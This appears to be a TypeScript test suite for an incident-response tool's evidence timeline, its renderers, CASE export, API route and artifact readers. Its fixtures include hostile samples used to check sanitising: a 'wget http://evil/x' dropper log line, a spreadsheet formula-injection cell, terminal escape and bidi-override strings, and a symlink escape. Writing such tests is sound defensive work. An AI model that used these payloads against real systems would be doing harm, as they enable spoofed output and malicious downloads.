/**
 * The timeline builder (evidence/timeline.ts) and its renderers (cli/timeline.ts), fed by a fake artifact reader:
 * ordering across sources, the bounds, hostile text from the pod, huge inputs; and the CASE export's shape.
 */
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pipeline } from 'node:stream/promises';
import { describe, test } from 'node:test';
import pino from 'pino';
import tar from 'tar-stream';
import { parseTokenSpec } from '../../api/auth';
import type { IncidentsService } from '../../api/incidents';
import { createApiMetrics } from '../../api/metrics';
import { timelineRoute } from '../../api/routes/timeline';
import { buildServer } from '../../api/server';
import { renderJsonl, renderTable, renderTimesketch, renderTimesketchCsv } from '../../cli/timeline';
import type { ArtifactRef, EvidenceManifest } from '../../common/types';
import { directoryReader, readBundle } from '../../evidence/artifact-readers';
import { caseDocument } from '../../evidence/case-export';
import {
  buildTimeline,
  cleanText,
  normalizeTime,
  scrubTimeline,
  type Timeline,
  type TimelineStatus,
} from '../../evidence/timeline';
import { MemoryCustodyLog, MemoryEvidenceStore } from '../fakes/evidence-store';
import { FakeArtifactReader } from '../fakes/artifact-reader';

const INC = 'inc-timeline-test';
const sha = (b: Buffer) => crypto.createHash('sha256').update(b).digest('hex');

function artifact(path: string, bytes: Buffer, capturedAt = '2026-12-02T10:00:05.000Z'): ArtifactRef {
  return {
    name: path.split('/')[1]!,
    key: `incidents/${INC}/${path}`,
    versionId: 'v1',
    size: bytes.length,
    sha256: sha(bytes),
    contentType: 'application/octet-stream',
    capturedAt,
    collector: { name: 'holdfast-collector', version: '0.1.0', imageDigest: `sha256:${'b'.repeat(64)}` },
    method: 'test',
    notes: [],
  };
}

function manifestOf(files: Record<string, Buffer>, extra: Partial<EvidenceManifest> = {}): EvidenceManifest {
  return {
    schema: 'holdfast.evidence-manifest/v1',
    incidentId: INC,
    workflowId: 'incident/c/shop/web',
    runId: 'run-1',
    sealedAt: '2026-12-02T10:09:00.000Z',
    signing: { algorithm: 'Ed25519', keyId: 'c'.repeat(64), signatureFile: 'manifest.sig', signedBytes: 'x' },
    retention: { mode: 'GOVERNANCE', days: 30, legalHold: false },
    alerts: [
      {
        id: 'alert-1',
        source: 'falco',
        rule: 'Terminal shell in container',
        severity: 'high',
        summary: 'shell spawned',
        observedAt: '2026-12-02T10:00:00.000Z',
        receivedAt: '2026-12-02T10:00:00.500Z',
        target: { cluster: 'c', namespace: 'shop', pod: 'web' },
        labels: {},
        status: 'firing',
        rawSha256: 'd'.repeat(64),
      },
    ],
    target: { cluster: 'c', namespace: 'shop', pod: 'web', containers: [{ name: 'app' }], notes: [] },
    artifacts: Object.entries(files).map(([p, b]) => artifact(p, b)),
    failures: [],
    tamper: [],
    ...extra,
  };
}

const changedFiles = (entries: Array<{ path: string; ctime?: string; mtime?: string }>) =>
  Buffer.from(
    JSON.stringify({
      basis: 'x',
      scannedEntries: 10,
      changedEntries: entries.length,
      listed: entries.length,
      complete: true,
      entries: entries.map((e) => ({ type: 'file', size: 1, mode: '644', uid: 0, gid: 0, ...e })),
    }),
  );

const STATUS: TimelineStatus = {
  incidentId: INC,
  startedAt: '2026-12-02T10:00:01.000Z',
  phase: 'escalating',
  steps: [
    {
      name: 'preserve',
      kind: 'preserve',
      state: 'succeeded',
      startedAt: '2026-12-02T10:00:02.000Z',
      endedAt: '2026-12-02T10:00:03.000Z',
    },
    {
      name: 'isolate',
      kind: 'contain',
      state: 'succeeded',
      startedAt: '2026-12-02T10:00:07.000Z',
      endedAt: '2026-12-02T10:00:08.000Z',
      decision: { approved: true, by: 'alice', role: 'responder', at: '2026-12-02T10:00:06.500Z' },
    },
  ],
};

function fixture(
  log: string,
  files = changedFiles([
    { path: '/tmp/dropper', ctime: '2026-12-02T09:59:58.000Z', mtime: '2001-01-01T00:00:00.000Z' },
  ]),
) {
  const bytes = { 'filesystem/changed-files.json': files, 'logs/app.log': Buffer.from(log) };
  return { manifest: manifestOf(bytes), reader: new FakeArtifactReader(new Map(Object.entries(bytes))) };
}

describe('timeline: one chronology', () => {
  test('the dropped file’s ctime, the alert, the approval and the isolate step, in order, each naming its source', async () => {
    const { manifest, reader } = fixture(
      '2026-12-02T09:59:59.123456789Z wget http://evil/x\n2026-12-02T10:00:04Z serving\n',
    );
    const t = await buildTimeline({ incidentId: INC, manifest, status: STATUS, reader });
    const rows = t.rows.map((r) => `${r.at} ${r.kind} ${r.what} ${r.source}`);
    const index = (re: RegExp) => rows.findIndex((r) => re.test(r));
    const ctime = index(/file ctime .* filesystem\/changed-files\.json/);
    const log = index(/09:59:59\.123456789Z log log line logs\/app\.log/);
    const alert = index(/alert alert observed/);
    const approved = index(/decision approved/);
    const isolate = index(/10:00:07\.000Z step step started status/);
    for (const i of [ctime, log, alert, approved, isolate]) assert.ok(i >= 0, rows.join('\n'));
    assert.ok(ctime < log && log < alert && alert < approved && approved < isolate, rows.join('\n'));
    // mtime is the file's claim (2001): shown, labelled, and sorted where it claims to be.
    assert.equal(t.rows[0]!.what, 'mtime (settable by the target)');
    assert.equal(t.rows.find((r) => r.kind === 'decision')!.text, 'isolate approved by alice (responder)');
    assert.ok(t.rows.every((r, i) => i === 0 || normalizeTime(t.rows[i - 1]!.at)!.key <= normalizeTime(r.at)!.key));
    assert.equal(t.rows.find((r) => r.kind === 'seal')?.at, '2026-12-02T10:09:00.000Z');
  });

  test('times: offsets become UTC, nanoseconds order correctly, anything not strict ISO 8601 is no row', () => {
    assert.deepEqual(normalizeTime('2026-12-02T12:00:00.5+02:00'), {
      at: '2026-12-02T10:00:00.500Z',
      key: '2026-12-02T10:00:00.500000000',
    });
    assert.ok(
      normalizeTime('2026-12-02T10:00:00.000000002Z')!.key > normalizeTime('2026-12-02T10:00:00.000000001Z')!.key,
    );
    for (const bad of ['yesterday', '2026-12-02 10:00:00', '2026-13-45T99:00:00Z', '', 12, '2026-12-02T10:00:00Z\n'])
      assert.equal(normalizeTime(bad), undefined, String(bad));
  });

  test('offline (no status): each artifact as stored, and the seal', async () => {
    const { manifest, reader } = fixture('');
    const t = await buildTimeline({ incidentId: INC, manifest, reader });
    assert.ok(t.rows.some((r) => r.kind === 'artifact' && r.source === 'logs/app.log'));
    assert.ok(!t.rows.some((r) => r.kind === 'step'));
  });

  test('an artifact that does not match the manifest gives no rows and a note', async () => {
    const bytes = changedFiles([{ path: '/x', ctime: '2026-12-02T09:00:00Z' }]);
    const manifest = manifestOf({ 'filesystem/changed-files.json': bytes });
    const reader = new FakeArtifactReader(
      new Map([['filesystem/changed-files.json', changedFiles([{ path: '/forged', ctime: '2026-12-02T09:00:00Z' }])]]),
    );
    const t = await buildTimeline({ incidentId: INC, manifest, reader });
    assert.ok(!t.rows.some((r) => r.kind === 'file'));
    assert.match(t.notes.join('\n'), /does not match the manifest/);
  });

  test('process start times, when processes.json has them; a note when it does not', async () => {
    const procs = Buffer.from(
      JSON.stringify({
        processes: [
          { pid: 1, comm: 'nginx', cmdline: 'nginx -g daemon off;', startedAt: '2026-12-02T09:00:00.00Z' },
          { pid: 7, comm: 'sh', cmdline: 'sh -c \u001b]0;pwned\u0007', startedAt: '2026-12-02T09:59:57.10Z' },
          { pid: 9, comm: 'old' },
        ],
      }),
    );
    const manifest = manifestOf({ 'memory/processes.json': procs });
    const t = await buildTimeline({
      incidentId: INC,
      manifest,
      reader: new FakeArtifactReader(new Map([['memory/processes.json', procs]])),
    });
    const rows = t.rows.filter((r) => r.kind === 'process');
    assert.deepEqual(
      rows.map((r) => r.fields?.pid),
      ['1', '7'],
    );
    assert.equal(rows[1]!.text, 'sh -c \\u001b]0;pwned\\u0007');
    assert.match(t.notes.join('\n'), /1 process\(es\) without a start time/);
  });
});

describe('timeline: hostile text from the pod', () => {
  const hostile = [
    '2026-12-02T10:00:04Z \u001b[2J\u001b[31mred\u001b[0m and a bell\u0007',
    '2026-12-02T10:00:04.1Z carriage\rreturn 2026-12-02T10:00:07.000Z step step started status isolate started',
    '2026-12-02T10:00:04.2Z bidi \u202egnp.exe\u202c and line sep\u2028here and C1 \u009b31m',
    '2026-12-02T10:00:04.3Z a "quoted" \\u001b that the target typed',
    'no timestamp at all',
    '2099-99-99T99:99:99Z forged time',
  ].join('\n');

  test('no control character, escape sequence or bidi override reaches any output; pod text never looks like our rows', async () => {
    const { manifest, reader } = fixture(`${hostile}\n`);
    const t = await buildTimeline({ incidentId: INC, manifest, status: STATUS, reader });
    const logs = t.rows.filter((r) => r.kind === 'log');
    assert.equal(logs.length, 4, 'the untimed and the forged-time lines are left out');
    assert.match(t.notes.join('\n'), /2 line\(s\) without a valid timestamp/);
    // eslint-disable-next-line no-control-regex
    const unsafe = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
    for (const out of [renderTable(t), renderJsonl(t), renderTimesketch(t), renderTimesketchCsv(t)]) {
      for (const line of out) assert.doesNotMatch(line, unsafe, line);
    }
    assert.equal(logs[0]!.text, '\\u001b[2J\\u001b[31mred\\u001b[0m and a bell\\u0007');
    assert.equal(
      logs[3]!.text,
      'a "quoted" \\\\u001b that the target typed',
      'a backslash the target typed stays distinguishable',
    );
    const table = renderTable(t);
    // One line per row (plus header and footer lines); a pod line is quoted in the TEXT column.
    assert.equal(table.filter((l) => /^\d{4}-/.test(l)).length, t.rows.length);
    const forged = table.find((l) => l.includes('carriage'))!;
    assert.match(forged, /logs\/app\.log +"carriage\\u000dreturn 2026-12-02T10:00:07\.000Z step/);
    const isolateRows = table.filter((l) =>
      /^2026-12-02T10:00:07\.000Z +step +step started +status +isolate started$/.test(l),
    );
    assert.equal(isolateRows.length, 1, 'only our own row reads as the isolate step');
    for (const line of renderJsonl(t)) JSON.parse(line);
  });

  test('a CSV cell never starts a formula', () => {
    const lines = renderTimesketchCsv({
      incidentId: INC,
      rows: [
        {
          at: '2026-12-02T10:00:00.000Z',
          kind: 'log',
          what: 'log line',
          source: 'logs/app.log',
          origin: 'target',
          text: 'x',
          fields: { container: '=HYPERLINK("http://evil")' },
        },
      ],
      omitted: {},
      notes: [],
    });
    assert.equal(lines[0], 'message,datetime,timestamp_desc,incident_id,artifact,kind,origin,holdfast_container');
    assert.match(lines[1]!, /"'=HYPERLINK\(""http:\/\/evil""\)"$/);
  });

  test('an answer from elsewhere is scrubbed before it is rendered', () => {
    const t = scrubTimeline({
      incidentId: INC,
      rows: [
        {
          at: '2026-12-02T10:00:00Z',
          kind: 'log',
          what: 'log line',
          source: 'logs/app.log',
          origin: 'holdfast',
          text: 'evil \u001b[2J',
        },
        { at: 'not a time', kind: 'log', what: 'x', source: 'x', origin: 'target', text: 'dropped' },
        { at: '2026-12-02T10:00:00Z', kind: 'nonsense', what: 'x', source: 'x', origin: 'target', text: 'dropped' },
      ],
      omitted: { all: 3, bad: -1 },
      notes: ['n\u0007'],
    });
    assert.deepEqual(
      t.rows.map((r) => r.text),
      ['evil ?[2J'],
    );
    assert.deepEqual(t.omitted, { all: 3 });
    assert.deepEqual(t.notes, ['n?']);
  });

  test('cleanText bounds after escaping and marks the cut', () => {
    assert.equal(cleanText('a'.repeat(10), 5), 'aaaa…');
    assert.equal(cleanText('\u001b'.repeat(10), 12).length, 12);
    assert.equal(cleanText(undefined, 5), '');
  });
});

describe('timeline: bounds and huge inputs', () => {
  test('a 48 MiB log: only its tail is read, rows per source and overall are bounded, and what was left out is counted', async () => {
    const line = (i: number) =>
      `2026-12-02T09:${String(Math.floor(i / 60000) % 60).padStart(2, '0')}:${String(Math.floor(i / 1000) % 60).padStart(2, '0')}.${String(i % 1000).padStart(3, '0')}Z line ${i} ${'x'.repeat(400)}`;
    const lines: string[] = [];
    for (let i = 0; i < 120_000; i++) lines.push(line(i));
    const log = Buffer.from(`${lines.join('\n')}\n`);
    assert.ok(log.length > 48 * 1024 * 1024);
    const bytes = {
      'logs/app.log': log,
      // 600 short lines, then one of a million characters: read whole (1 MB), its text bounded.
      'logs/side.log': Buffer.from(
        `${Array.from({ length: 600 }, (_, i) => `2026-12-02T10:00:00.${String(i).padStart(3, '0')}Z side ${i}`).join('\n')}\n2026-12-02T10:00:01Z ${'y'.repeat(1_000_000)}\n`,
      ),
    };
    const manifest = manifestOf(bytes);
    const reader = new FakeArtifactReader(new Map(Object.entries(bytes)));
    const started = Date.now();
    const t = await buildTimeline(
      { incidentId: INC, manifest, status: STATUS, reader },
      { rowsPerSource: 500, rows: 800 },
    );
    assert.ok(Date.now() - started < 5000, 'bounded work');
    assert.ok(
      reader.asked.every((a) => a.maxBytes <= 4 * 1024 * 1024 && a.tail),
      JSON.stringify(reader.asked),
    );
    assert.equal(t.rows.length, 800);
    const fromApp = t.rows.filter((r) => r.source === 'logs/app.log');
    assert.ok(fromApp.length <= 500);
    assert.match(fromApp.at(-1)!.text, /^line 119999 /, 'the last lines are kept');
    assert.ok(
      t.rows.some((r) => r.kind === 'decision') && t.rows.some((r) => r.kind === 'seal'),
      'our own rows are never the ones left out',
    );
    assert.ok(t.omitted['logs/app.log']! > 0 && t.omitted.all! > 0, JSON.stringify(t.omitted));
    assert.ok(t.rows.every((r) => r.text.length <= 300));
    assert.match(t.notes.join('\n'), /logs\/app\.log: only its last 4194304 of \d+ bytes were read/);
    const huge = t.rows.find((r) => r.source === 'logs/side.log' && r.text.startsWith('yyy'))!;
    assert.equal(huge.text.length, 300, 'the million-character line is cut to the bound');
    assert.ok(huge.text.endsWith('…'));
    assert.match(renderTable(t).join('\n'), /left out by the bounds \(.*all: \d+/);
  });

  test('changed-files entries beyond the per-source bound are counted, not listed', async () => {
    const entries = Array.from({ length: 3000 }, (_, i) => ({ path: `/f${i}`, ctime: '2026-12-02T09:00:00Z' }));
    const files = changedFiles(entries);
    const { manifest, reader } = fixture('', files);
    const t = await buildTimeline({ incidentId: INC, manifest, reader }, { rowsPerSource: 100 });
    assert.equal(t.rows.filter((r) => r.kind === 'file').length, 100);
    assert.equal(t.omitted['filesystem/changed-files.json'], 2900);
  });
});

describe('CASE export', () => {
  test('each step an investigative action with performer, instrument, times and results with hashes; tamper flags annotated; deterministic', () => {
    const bytes = { 'preserve/pod.json': Buffer.from('{}'), 'contain/isolate.json': Buffer.from('{"a":1}') };
    const manifest = manifestOf(bytes, {
      tamper: [{ step: 'filesystem', kind: 'collector-stalled', detail: 'tar stalled' }],
    });
    const status = {
      ...STATUS,
      steps: STATUS.steps!.map((s) => ({
        ...s,
        artifacts: [{ key: `incidents/${INC}/${s.name === 'isolate' ? 'contain/isolate.json' : 'preserve/pod.json'}` }],
      })),
    };
    const input = { manifest, manifestSha256: 'f'.repeat(64), manifestSize: 100, status, exporterVersion: '0.1.0' };
    const doc = caseDocument(input);
    assert.deepEqual(caseDocument(input), doc, 'the same evidence exports the same graph');
    const byId = new Map(doc['@graph'].map((n) => [n['@id'], n]));
    const actions = doc['@graph'].filter((n) => n['@type'] === 'case-investigation:InvestigativeAction');
    assert.deepEqual(
      actions.map((a) => a['uco-core:name']),
      ['preserve', 'isolate', 'seal'],
    );
    const isolate = actions[1]!;
    assert.equal(
      (byId.get((isolate['uco-action:performer'] as { '@id': string })['@id'])!['uco-core:name'] as string).startsWith(
        'Holdfast containment identity',
      ),
      true,
    );
    const participants = isolate['uco-action:participant'] as Array<{ '@id': string }>;
    assert.equal(byId.get(participants[0]!['@id'])!['@type'], 'uco-identity:Person');
    assert.equal(byId.get(participants[0]!['@id'])!['uco-core:name'], 'alice');
    assert.deepEqual(isolate['uco-action:startTime'], {
      '@type': 'xsd:dateTime',
      '@value': '2026-12-02T10:00:07.000Z',
    });
    const instruments = (isolate['uco-action:instrument'] as Array<{ '@id': string }>).map((r) => byId.get(r['@id'])!);
    assert.ok(
      instruments.some((t) => t['uco-core:name'] === 'holdfast-collector' && t['uco-tool:version'] === '0.1.0'),
    );
    const results = (isolate['uco-action:result'] as Array<{ '@id': string }>).map((r) => byId.get(r['@id'])!);
    const file = results.find((r) => r['@type'] === 'uco-observable:File')!;
    const facets = (file['uco-core:hasFacet'] as Array<{ '@id': string }>).map((f) => byId.get(f['@id'])!);
    const content = facets.find((f) => f['@type'] === 'uco-observable:ContentDataFacet')!;
    const hash = byId.get((content['uco-observable:hash'] as Array<{ '@id': string }>)[0]!['@id'])!;
    assert.deepEqual(hash['uco-types:hashValue'], { '@type': 'xsd:hexBinary', '@value': sha(Buffer.from('{"a":1}')) });
    assert.ok(results.some((r) => r['@type'] === 'case-investigation:ProvenanceRecord'));
    const tamper = doc['@graph'].find((n) => n['@type'] === 'uco-core:Annotation')!;
    assert.match(tamper['uco-core:statement'] as string, /collector-stalled/);
    for (const n of doc['@graph'])
      assert.match(n['@id'], /^kb:[a-z-]+-[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  });
});

describe('GET /v1/incidents/{id}/timeline (fakes)', () => {
  test('before sealing: the status alone, with a note; investigators only; OpenAPI lists it', async () => {
    const status = { ...STATUS, steps: STATUS.steps!.map((s) => ({ ...s, artifacts: [], notes: [] })) };
    const incidents = {
      get: async () => ({ status, alerts: [], running: true, progress: [], workflowId: 'w', runId: 'r' }),
    } as unknown as IncidentsService;
    const custody = new MemoryCustodyLog();
    const app = await buildServer({
      logger: pino({ level: 'silent' }),
      readiness: {},
      incidents,
      metrics: createApiMetrics(),
      tokens: parseTokenSpec(
        'investigator:bob=investigator-token-0123456789,responder:alice=responder-token-0123456789',
      ),
      routes: [timelineRoute({ store: new MemoryEvidenceStore(), custody }, incidents)],
    });
    try {
      const url = `/v1/incidents/${INC}/timeline`;
      const denied = await app.inject({ url, headers: { authorization: 'Bearer responder-token-0123456789' } });
      assert.equal(denied.statusCode, 403);
      const res = await app.inject({ url, headers: { authorization: 'Bearer investigator-token-0123456789' } });
      assert.equal(res.statusCode, 200, res.body);
      const body = res.json() as Timeline;
      assert.deepEqual(
        body.rows.map((r) => r.text),
        [
          'incident opened',
          'preserve started',
          'preserve succeeded',
          'isolate approved by alice (responder)',
          'isolate started',
          'isolate succeeded',
        ],
      );
      assert.match(body.notes.join('\n'), /no sealed evidence/);
      assert.equal(custody.entries.length, 0, 'nothing read from the store: nothing to record');
      const bad = await app.inject({
        url: '/v1/incidents/..%2Fx/timeline',
        headers: { authorization: 'Bearer investigator-token-0123456789' },
      });
      assert.equal(bad.statusCode, 400);
      const openapi = (await app.inject({ url: '/openapi.json' })).json() as { paths: Record<string, unknown> };
      assert.ok(openapi.paths['/v1/incidents/{incidentId}/timeline']);
    } finally {
      await app.close();
    }
  });
});

describe('artifact readers', () => {
  test('a directory: heads and tails within the bound, never through a symlink out of it; a bundle: one pass, the same', async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'holdfast-readers-'));
    try {
      const dir = path.join(root, 'evidence');
      fs.mkdirSync(path.join(dir, 'logs'), { recursive: true });
      fs.writeFileSync(path.join(dir, 'logs', 'app.log'), '0123456789');
      fs.writeFileSync(path.join(root, 'secret'), 'outside');
      fs.symlinkSync(path.join(root, 'secret'), path.join(dir, 'logs', 'evil.log'));
      const reader = directoryReader(dir);
      assert.deepEqual(await reader.read('logs/app.log', { maxBytes: 4 }), { bytes: Buffer.from('0123'), size: 10 });
      assert.deepEqual(await reader.read('logs/app.log', { maxBytes: 4, tail: true }), {
        bytes: Buffer.from('6789'),
        size: 10,
      });
      assert.equal(await reader.read('logs/evil.log', { maxBytes: 100 }), undefined, 'a symlink is not followed');
      assert.equal(await reader.read('logs/none.log', { maxBytes: 100 }), undefined);

      const bundle = path.join(root, 'x.tar');
      const pack = tar.pack();
      pack.entry({ name: 'manifest.json' }, '{}');
      pack.entry({ name: 'logs/app.log' }, '0123456789');
      pack.entry({ name: 'memory/pid-1.core' }, 'x'.repeat(10_000));
      pack.finalize();
      await pipeline(pack, fs.createWriteStream(bundle));
      const read = await readBundle(bundle, (name) =>
        name.endsWith('.log') ? { maxBytes: 4, tail: true } : undefined,
      );
      assert.equal(read.manifestBytes?.toString(), '{}');
      assert.deepEqual(read.problems, []);
      assert.deepEqual(await read.reader.read('logs/app.log', { maxBytes: 4, tail: true }), {
        bytes: Buffer.from('6789'),
        size: 10,
      });
      assert.equal(await read.reader.read('memory/pid-1.core', { maxBytes: 4 }), undefined, 'not selected: not kept');
    } finally {
      fs.rmSync(root, { recursive: true, force: true });
    }
  });
});
